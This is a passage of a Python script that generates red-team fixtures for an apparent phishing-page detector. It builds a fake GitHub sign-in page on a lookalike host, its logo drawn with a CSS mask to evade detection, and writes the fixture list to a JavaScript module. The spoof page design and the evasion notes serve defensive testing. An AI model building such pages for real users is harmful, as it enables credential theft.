row('github-mark-mask-plain-inputs', 'code-review-hub.net', '/login', 'danger', 'github', 'drawn-vs-stored',
    'as github-mark-mask-image (mark drawn by mask-image on a div, no brand word) with the kit\'s own input names',
    'mask-image mark sign-in whose inputs are id=user / name=user', ['logo', 'visual'],
    page('Sign in', gh_card(f'<div style="width:48px;height:48px;margin:auto;background:#1f2328;'
         f'-webkit-mask-image:url({svg_url(gh_mark())});mask-image:url({svg_url(gh_mark())});mask-size:48px 48px"></div>',
         'Sign in to continue', 'Username or email address', 'Password', 'Sign in', 'New here? <a href="#">Create an account</a>',
         user_id='user', user_name='user'), GH_STYLE))

# === the table ==============================================================================================
GENUINE = {'login.microsoftonline.com', 'github.com', 'accounts.google.com', 'app.vssps.visualstudio.com'}
hosts = sorted({r['host'] for r in ROWS} - GENUINE | {'n-r6ab2cdq-0lu-script.googleusercontent.com'})


def js(v):
    import json
    return json.dumps(v, ensure_ascii=False)


out = ["'use strict';",
       '// Sixth red-team round: localized kits, anyone\'s-content hosts of the providers\' own families and big clouds,',
       '// logos and brand words drawn differently from how they are stored, sign-ins in the top layer or revealed late,',
       '// consent URLs on the genuine hosts with redirect tricks, other 2025-2026 lures, and ordinary pages close to them.',
       '// Generated with the fixtures by tests/corpus/gen-redteam6.py; REDTEAM6.md has the results.',
       '',
       'const HOSTS = {']
out += [f"  {js(h)}: 'https'," for h in hosts]
out += ['};', '', 'const PAGES = [']
for r in ROWS:
    out.append('  {')
    for k, v in r.items():
        out.append(f'    {k}: {js(v)},')
    out.append('  },')
out += ['];', '', 'module.exports = { HOSTS, PAGES };', '']
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'redteam6.js'), 'w', encoding='utf-8') as f:
    f.write('\n'.join(out))
print(len(ROWS), 'rows,', sum(r['expect'] != 'none' for r in ROWS), 'spoofs,', len(hosts), 'hosts')
